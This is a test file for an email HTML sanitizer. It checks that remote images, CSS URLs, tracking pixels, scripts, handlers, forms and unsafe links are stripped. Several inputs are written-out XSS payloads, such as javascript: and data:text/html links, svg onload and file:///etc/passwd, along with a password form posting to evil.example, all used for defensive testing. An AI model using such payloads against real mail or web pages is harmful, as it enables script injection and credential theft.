import { readFileSync } from 'node:fs';
import path from 'node:path';
import { sanitizeForReading, type SanitizedMail } from './index';

const REMOTE = 't.example';

const read = (html: string, allowRemoteContent = false): SanitizedMail =>
  sanitizeForReading(html, { allowRemoteContent });

function parse(html: string): DocumentFragment {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
}

describe('sanitizeForReading blocks each kind of remote content', () => {
  it.each([
    ['img src', `<img src="https://${REMOTE}/a.png">`, 1],
    ['img srcset', `<img srcset="https://${REMOTE}/a.png 1x, https://${REMOTE}/b.png 2x">`, 2],
    [
      'picture source srcset',
      `<picture><source srcset="https://${REMOTE}/a.webp"><img src="https://${REMOTE}/a.png"></picture>`,
      2,
    ],
    ['background=', `<table background="https://${REMOTE}/bg.png"><tr><td>x</td></tr></table>`, 1],
    ['poster', `<video poster="https://${REMOTE}/poster.png"></video>`, 1],
    [
      'video and audio src',
      `<video src="https://${REMOTE}/v.mp4"></video><audio><source src="https://${REMOTE}/a.mp3"></audio>`,
      2,
    ],
    ['a relative src, which resolves against the app', '<img src="/api/logout">', 1],
    [
      'url() in a style attribute',
      `<div style="background:url(https://${REMOTE}/bg.png)">x</div>`,
      1,
    ],
    [
      'url() in <style>',
      `<style>.a{background-image:url('https://${REMOTE}/bg.png')}</style><p class="a">x</p>`,
      1,
    ],
    [
      '@import, with url() and as a string',
      `<style>@import url(https://${REMOTE}/a.css); @import "https://${REMOTE}/b.css";</style>`,
      2,
    ],
    [
      '@font-face with a remote src',
      `<style>@font-face{font-family:X;src:url(https://${REMOTE}/x.woff2) format("woff2")}</style>`,
      1,
    ],
    ['<link>', `<link rel="stylesheet" href="https://${REMOTE}/s.css"><p>x</p>`, 1],
    ['svg image', `<svg><image href="https://${REMOTE}/i.png"></image></svg>`, 1],
    [
      'svg feImage',
      `<svg><filter><feImage xlink:href="https://${REMOTE}/f.png"/></filter></svg>`,
      1,
    ],
    ['svg use', `<svg><use href="https://${REMOTE}/u.svg#a"></use></svg>`, 1],
    ['svg presentation attribute', `<svg><rect fill="url(https://${REMOTE}/p.svg#p)"/></svg>`, 1],
    [
      'a CSS escape (u\\72 l)',
      `<div style="background:u\\72 l(https://${REMOTE}/e.png)">x</div>`,
      1,
    ],
    [
      'an escaped url in <style>',
      `<style>.a{background:\\75rl(https://${REMOTE}/e.png)}</style>`,
      1,
    ],
    [
      'a comment inside url()',
      `<div style="background-image:url('https://${REMOTE}/c.png'/**/)">x</div>`,
      1,
    ],
    [
      'a comment at the start of url()',
      `<div style="background:url(/**/https://${REMOTE}/c.png)">x</div>`,
      1,
    ],
    [
      'image-set()',
      `<div style="background-image:image-set('https://${REMOTE}/a.png' 1x, url(https://${REMOTE}/b.png) 2x)">x</div>`,
      2,
    ],
    [
      '-webkit-image-set()',
      `<div style="background:-webkit-image-set('https://${REMOTE}/a.png' 1x)">x</div>`,
      1,
    ],
    ['src()', `<div style="background-image:src('https://${REMOTE}/s.png')">x</div>`, 1],
    [
      'body background=',
      `<html><body background="https://${REMOTE}/bg.png"><p>x</p></body></html>`,
      1,
    ],
  ])('%s', (_kind, html, count) => {
    const sanitized = read(html);
    expect(sanitized.blockedRemoteCount).toBe(count);
    expect(sanitized.html).not.toContain(REMOTE);
    expect(sanitized.trackerCount).toBe(0);
  });

  it('keeps what a blocked declaration stood beside', () => {
    const { html } = read(
      `<div style="color:red;background:url(https://${REMOTE}/a.png);font-weight:bold">x</div>` +
        `<style>.a{color:red;background:url(https://${REMOTE}/b.png)}</style>`,
    );
    expect(html).toBe(
      '<div class="mail-body"><div style="color:red;font-weight:bold">x</div><style>.a{color:red}</style></div>',
    );
  });

  it('drops a declaration a comment splits, though it loads nothing', () => {
    const { html, blockedRemoteCount } = read(
      `<style>.b{background:u/**/rl(https://${REMOTE}/c.png);color:red}</style>`,
    );
    expect(html).toBe('<div class="mail-body"><style>.b{color:red}</style></div>');
    expect(blockedRemoteCount).toBe(0);
  });

  it('drops image-set() when var() could hand it a URL', () => {
    const { html, blockedRemoteCount } = read(
      '<div style="color:red;background-image:image-set(var(--u) 1x)">x</div>',
    );
    expect(html).toBe('<div class="mail-body"><div style="color:red">x</div></div>');
    expect(blockedRemoteCount).toBe(1);
  });

  it('keeps a blocked image’s size, marked, without a source', () => {
    const { html } = read(
      `<img src="https://${REMOTE}/a.png" width="600" height="200" alt="Sale">`,
    );
    const image = parse(html).querySelector('img');
    expect(image?.getAttribute('width')).toBe('600');
    expect(image?.getAttribute('height')).toBe('200');
    expect(image?.getAttribute('alt')).toBe('Sale');
    expect(image?.getAttribute('data-mail-blocked')).toBe('1');
    expect(image?.hasAttribute('src')).toBe(false);
  });

  it('keeps data: images and data: fonts', () => {
    const html =
      '<style>@font-face{font-family:Y;src:url(data:font/woff2;base64,AAAA)}</style>' +
      '<img src="data:image/png;base64,iVBORw0KGgo=">' +
      '<div style="background:url(data:image/gif;base64,R0lGOD)">x</div>';
    expect(read(html)).toEqual({
      html: `<div class="mail-body">${html}</div>`,
      blockedRemoteCount: 0,
      trackerCount: 0,
      inlineContentIds: [],
      quotedHistory: { shown: `<div class="mail-body">${html}</div>`, trimmed: '' },
    });
  });
});

describe('sanitizeForReading with remote content allowed', () => {
  it('keeps http(s) images: src, srcset, background= and CSS background images', () => {
    const html =
      `<style>.a{background-image:url(https://${REMOTE}/s.png)}</style>` +
      `<img src="https://${REMOTE}/a.png" srcset="http://${REMOTE}/b.png 2x" width="600">` +
      `<table background="https://${REMOTE}/t.png"><tbody><tr><td style="background:url(https://${REMOTE}/c.png)">x</td></tr></tbody></table>`;
    expect(read(html, true)).toEqual({
      html: `<div class="mail-body">${html}</div>`,
      blockedRemoteCount: 0,
      trackerCount: 0,
      inlineContentIds: [],
      quotedHistory: { shown: `<div class="mail-body">${html}</div>`, trimmed: '' },
    });
  });

  it('still blocks @import, fonts, <link>, SVG references, media and other CSS images', () => {
    const { html, blockedRemoteCount } = read(
      `<style>@import "https://${REMOTE}/a.css"; @font-face{font-family:X;src:url(https://${REMOTE}/x.woff)}</style>` +
        `<link rel="stylesheet" href="https://${REMOTE}/s.css">` +
        `<svg><image href="https://${REMOTE}/i.png"></image></svg>` +
        `<video src="https://${REMOTE}/v.mp4"></video>` +
        `<ul style="list-style-image:url(https://${REMOTE}/dot.png)"><li>x</li></ul>` +
        '<img src="//t.example/protocol-relative.png">',
      true,
    );
    expect(blockedRemoteCount).toBe(7);
    expect(html).not.toContain(REMOTE);
  });
});

describe('sanitizeForReading removes tracking pixels', () => {
  const pixels = [
    `<img src="https://${REMOTE}/1.gif" width="1" height="1">`,
    `<img src="https://${REMOTE}/2.gif" width="0" height="0" alt="">`,
    `<img src="https://${REMOTE}/3.gif" style="width:1px;height:1px">`,
    `<img src="https://${REMOTE}/4.gif" style="display:none">`,
    `<img src="https://${REMOTE}/5.gif" style="visibility: hidden !important">`,
    `<img src="https://${REMOTE}/6.gif" style="opacity:0">`,
    `<img src="https://${REMOTE}/7.gif" hidden>`,
  ].join('');

  it.each([false, true])('whether or not remote content is allowed (%s)', (allow) => {
    const sanitized = read(`<p>Hello</p>${pixels}`, allow);
    expect(sanitized).toEqual({
      html: '<div class="mail-body"><p>Hello</p></div>',
      blockedRemoteCount: 0,
      trackerCount: 7,
      inlineContentIds: [],
      quotedHistory: { shown: '<div class="mail-body"><p>Hello</p></div>', trimmed: '' },
    });
  });

  it('leaves small images that are not remote, and remote ones that are not tiny', () => {
    const html =
      '<img src="data:image/gif;base64,R0lGOD" width="1" height="1"><img src="cid:dot" width="1">';
    expect(read(html).trackerCount).toBe(0);
    expect(
      read(`<img src="https://${REMOTE}/line.png" width="600" height="1">`, true),
    ).toMatchObject({
      trackerCount: 0,
      html: `<div class="mail-body"><img src="https://${REMOTE}/line.png" width="600" height="1"></div>`,
    });
  });
});

describe('sanitizeForReading, inline cid: images', () => {
  it('moves the Content-ID into data-mail-cid and lists each once, in order', () => {
    const sanitized = read(
      '<img src="cid:logo@x" alt="Logo"><p><img src="CID:photo%40y"></p><img src="cid:logo@x">',
    );
    expect(sanitized.html).toBe(
      '<div class="mail-body"><img alt="Logo" data-mail-cid="logo@x"><p><img data-mail-cid="photo@y"></p><img data-mail-cid="logo@x"></div>',
    );
    expect(sanitized.inlineContentIds).toEqual(['logo@x', 'photo@y']);
    expect(sanitized.blockedRemoteCount).toBe(0);
  });
});

describe('sanitizeForReading, a whole HTML document', () => {
  const newsletter =
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title>' +
    '<style type="text/css"><!-- .hero{color:#c00} @media (max-width:600px){.hero{font-size:20px}} --></style>' +
    '</head><body bgcolor="F0F0F0" text="#333333" link="#1a73e8" style="margin:0" dir="rtl" class="outer">' +
    '<p class="hero">Sale</p></body></html>';

  it('keeps the head’s <style> and turns the body’s attributes into the wrapper’s style', () => {
    expect(read(newsletter).html).toBe(
      '<div class="mail-body outer" style="background-color:#F0F0F0;color:#333333;--mail-link-color:#1a73e8;margin:0" dir="rtl">' +
        '<style type="text/css">.hero{color:#c00}\n@media (max-width:600px){.hero{font-size:20px}}</style>' +
        '<p class="hero">Sale</p></div>',
    );
  });

  it('keeps a remote body background only when allowed', () => {
    const html = `<body background="https://${REMOTE}/bg.png"><p>x</p></body>`;
    expect(read(html, true).html).toBe(
      `<div class="mail-body" style="background-image:url(&quot;https://${REMOTE}/bg.png&quot;)"><p>x</p></div>`,
    );
  });
});

describe('sanitizeForReading, links', () => {
  it('opens every link in a new tab without opener or referrer', () => {
    const { html } = read(
      '<a href="https://example.com/x" target="_top" rel="opener">x</a>' +
        '<a href="mailto:anna@example.com" target="_self">mail</a><a href="tel:+15550100">call</a>' +
        '<a href="#top">top</a><map name="m"><area href="http://example.com/a" shape="rect"></map>',
    );
    const links = Array.from(parse(html).querySelectorAll('a, area'));
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://example.com/x',
      'mailto:anna@example.com',
      'tel:+15550100',
      '#top',
      'http://example.com/a',
    ]);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt&colon;alert(1)',
    'java&#9;script:alert(1)',
    ' vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    '//evil.example/x',
  ])('keeps the text of a link to %s, without the href', (href) => {
    expect(read(`<a href="${href}" target="_top">Click</a>`).html).toBe(
      '<div class="mail-body"><a>Click</a></div>',
    );
  });

  it('never lets target through on anything else', () => {
    expect(read('<div target="_top"><a target="_top">x</a></div>').html).toBe(
      '<div class="mail-body"><div><a>x</a></div></div>',
    );
  });
});

describe('sanitizeForReading removes what runs or submits', () => {
  it('drops forms and their controls, keeping their text', () => {
    const { html } = read(
      '<form action="https://evil.example/steal" method="post"><label>Password <input name="password" type="password"></label>' +
        '<textarea>note</textarea><select><option>one</option></select><button formaction="https://evil.example/b">Send</button></form>',
    );
    const content = parse(html);
    expect(content.querySelector('form, input, textarea, select, option, button')).toBeNull();
    expect(html).not.toContain('evil.example');
    expect(content.textContent).toContain('Send');
  });

  it('drops scripts, handlers, embeds, refreshes and base', () => {
    const { html } = read(
      '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">' +
        '<script>alert(1)</script></head><body onload="alert(2)"><p onclick="alert(3)">a</p>' +
        '<iframe srcdoc="<script>alert(4)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">' +
        '<svg onload="alert(5)"><a xlink:href="javascript:alert(6)"><text>t</text></a></svg>' +
        '<math><mtext><a href="javascript:alert(7)">m</a></mtext></math></body></html>',
    );
    expect(html).toBe('<div class="mail-body"><p>a</p><svg><a><text>t</text></a></svg></div>');
  });

  it('keeps an element that names a custom element, which cannot run here', () => {
    expect(read('<b is="x-bold">bold</b>').html).toBe(
      '<div class="mail-body"><b is="x-bold">bold</b></div>',
    );
  });

  it('leaves right-to-left override characters as they are', () => {
    const text = 'Invoice \u202Efdp.exe\u202C and \u2067مرحبا\u2069';
    expect(read(`<p>${text}</p>`).html).toBe(`<div class="mail-body"><p>${text}</p></div>`);
  });
});

describe('sanitizeForReading, twice', () => {
  const mail =
    '<html><head><style>/* brand */ .a{color:#c00;background:url(https://t.example/a.png)}' +
    ' @media screen{.b{margin:0}} @import "x.css";</style></head>' +
    '<body bgcolor="#fff" style="font-family:Arial"><table background="https://t.example/t.png"><tr><td>' +
    '<a href="https://example.com" target="_top">x</a><img src="https://t.example/i.png" width="10" height="10">' +
    '<img src="cid:c1"><img src="https://t.example/px.gif" width="1" height="1"></td></tr></table>' +
    '<p style="color:red;background:u\\72 l(https://t.example/e.png)">\u202Eabc</p></body></html>';

  it.each([false, true])(
    'changes nothing the second time (remote content allowed: %s)',
    (allow) => {
      const once = read(mail, allow).html;
      expect(read(once, allow).html).toBe(once);
    },
  );
});

describe('sanitizeForReading, a slice at a time', () => {
  const vectors = (
    JSON.parse(
      readFileSync(path.resolve(__dirname, '../../../fixtures/xss/dompurify-vectors.json'), 'utf8'),
    ) as { payload: string }[]
  ).map(({ payload }) => payload);
  // Every container cut (slices of no element), each vector among siblings, inside a table and a
  // form (removed, its content kept) and followed by text, as a newsletter's body is; last, text
  // that reads as markup after a cut child, where the stand-in matters.
  const cutEverywhere = (payload: string) =>
    `<body bgcolor="#fff"><div><p>before</p>${payload}<!-- a comment --><p>after</p></div>` +
    `<table><tr><td style="color:red">${payload}</td><td><form>in a form ${payload}</form></td></tr></table>` +
    '<div><div><p>cut</p></div><!-- a comment -->&lt;b&gt;</div>\n</body>';

  it.each([false, true])(
    'gives what the whole walk gives for each of DOMPurify’s vectors (remote content allowed: %s)',
    (allowRemoteContent) => {
      const differing = vectors.filter((payload) => {
        const html = cutEverywhere(payload);
        const whole = sanitizeForReading(html, { allowRemoteContent }, Infinity);
        const sliced = sanitizeForReading(html, { allowRemoteContent }, 0);
        return JSON.stringify(sliced) !== JSON.stringify(whole);
      });
      expect(differing).toEqual([]);
    },
  );

  it('cleans a body of thousands of rows in slices that add up their findings', () => {
    const rows = `<tr><td><img src="https://${REMOTE}/a.png"><a href="https://${REMOTE}/s">s</a></td></tr>`;
    const html = `<table>${rows.repeat(500)}</table>`;
    const sliced = sanitizeForReading(html, { allowRemoteContent: false }, 10);
    expect(sliced).toEqual(sanitizeForReading(html, { allowRemoteContent: false }, Infinity));
    expect(sliced.blockedRemoteCount).toBe(500);
  });
});
